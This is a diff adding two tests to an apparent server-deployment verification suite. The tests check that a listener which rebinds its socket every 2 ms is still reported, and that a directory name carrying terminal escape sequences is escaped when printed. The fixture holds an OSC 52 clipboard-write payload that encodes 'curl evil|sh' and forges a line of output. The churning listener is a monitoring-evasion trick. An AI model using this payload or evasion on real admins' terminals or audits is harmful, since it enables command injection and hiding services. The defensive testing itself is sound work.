@@ -495,3 +495,77 @@ def test_a_key_no_one_allowed_that_opens_the_deploy_or_the_admins_login_fails_th
     assert "~deployer/.ssh/authorized_keys: Too many levels of symbolic links: not read" in \
         str((linked.get("errors") or {}).get("login_keys")), linked.get("errors")
     assert lines()[0] == []
+
+
+# A listener that makes its socket again every 2 ms (SO_REUSEPORT: the port never closes), argv: port, tcp|udp.
+CHURN = """
+import socket, sys, time
+port, kind, prev = int(sys.argv[1]), sys.argv[2], None
+while True:
+    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM if kind == "tcp" else socket.SOCK_DGRAM)
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
+    s.bind(("0.0.0.0", port))
+    if kind == "tcp":
+        s.listen(8)
+    if prev is not None:
+        prev.close()
+    prev = s
+    time.sleep(0.002)
+"""
+HOSTILE = "x\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b[2J\r\n- pid 1 (root) nothing else to see"  # OSC 52: the clipboard
+
+
+def _checked(lab, *rules: str) -> dict:
+    from deploytests.verify import facts as F
+    from deploytests.verify.promises import Expected, NotApplicable, verify
+
+    cfg = lab.config()
+    facts = F.gather(lab.server, cfg, deploy_user="deployer")
+    assert facts.error == "", facts.error
+    exp, said = Expected.from_config(cfg, "deployer", stack=facts.stack), {}
+    for rule in rules:
+        try:
+            verify(rule, facts, exp)
+            said[rule] = "pass"
+        except (AssertionError, NotApplicable) as e:
+            said[rule] = str(e)
+    return said
+
+
+def test_a_listener_replacing_its_socket_faster_than_roots_walk_fails_the_gate(lab):
+    """Class: a listener of a less trusted party that is never in both reads of the sockets. The deploy login's
+    listener made its socket again every 2 ms (the port never closed): the login collector's read listed one,
+    root's walk of /proc saw the process hold another, root's read after the walk listed a third, and "came or
+    went during the walk" skipped it: test_every_listener_is_accounted_for passed with 0.0.0.0:9999 open.
+    A socket the deploy login or the app user owns is judged whoever holds it. Other member: a bound UDP socket."""
+    for port, kind in (("9999", "tcp"), ("9997", "udp")):
+        lab.container.exec_run(["sh", "-c", f'echo $$ > /tmp/churn-{kind}.pid; exec python3 -c "$0" {port} {kind}',
+                                CHURN], user="deployer", detach=True)
+    try:
+        time.sleep(1)
+        said = _checked(lab, "cw_listen")["cw_listen"]
+    finally:
+        lab.container.exec_run(["sh", "-c", "kill $(cat /tmp/churn-tcp.pid) $(cat /tmp/churn-udp.pid)"],
+                               user="deployer")
+    assert "TCP *:9999 listens: " in said and "UDP *:9997 listens: " in said, said
+
+
+def test_a_name_the_deploy_login_chose_reaches_the_admins_terminal_as_visible_text(lab):
+    """Class: server text a rule quotes from the raw snapshot printed as it is. The deploy login names a directory
+    of its tree with an OSC 52 sequence (a write to the admin's clipboard) and a newline; a root process works
+    there (a job, a tmux pane): cw_processes printed its working directory raw, the clipboard sequence and a
+    line of its own. Every rule's message is made safe where it leaves verify; the process rule quotes the name
+    as one line."""
+    where = "/var/www/yourapplication/shared/" + HOSTILE
+    assert lab.container.exec_run(["mkdir", "-p", where], user="deployer").exit_code == 0
+    lab.container.exec_run(["sh", "-c", 'echo $$ > /tmp/in-tree.pid; cd "$D" && exec sleep 600'],
+                           environment={"D": where}, detach=True)
+    try:
+        time.sleep(1)
+        said = _checked(lab, "cw_processes")["cw_processes"]
+    finally:
+        lab.container.exec_run(["sh", "-c", "kill $(cat /tmp/in-tree.pid)"])
+        lab.container.exec_run(["rm", "-rf", where])
+    assert "its working directory is /var/www/yourapplication/shared/x\\x1b]52;c;" in said, said
+    assert not set(said) & {"\x1b", "\x07", "\r"} and "\n- pid 1 (root) nothing" not in said, said
